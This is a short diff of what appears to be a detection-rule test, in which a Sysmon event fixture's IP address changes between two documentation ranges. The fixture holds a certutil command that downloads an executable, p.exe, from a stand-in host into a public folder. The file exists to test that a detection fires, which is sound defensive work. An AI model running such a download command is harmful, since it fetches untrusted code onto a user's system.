@@ -23,13 +23,13 @@ test_fires_urlcache_download if {
 			"channel": "Microsoft-Windows-Sysmon/Operational",
 			"event_data": {
 				"Image": "C:\\Windows\\System32\\certutil.exe",
-				"CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.66/p.exe C:\\Users\\Public\\p.exe"
+				"CommandLine": "certutil.exe -urlcache -split -f http://192.0.2.66/p.exe C:\\Users\\Public\\p.exe"
 			}
 		},
 		"process": {
 			"name": "certutil.exe",
 			"executable": "C:\\Windows\\System32\\certutil.exe",
-			"command_line": "certutil.exe -urlcache -split -f http://203.0.113.66/p.exe C:\\Users\\Public\\p.exe"
+			"command_line": "certutil.exe -urlcache -split -f http://192.0.2.66/p.exe C:\\Users\\Public\\p.exe"
 		}
 	}
 }
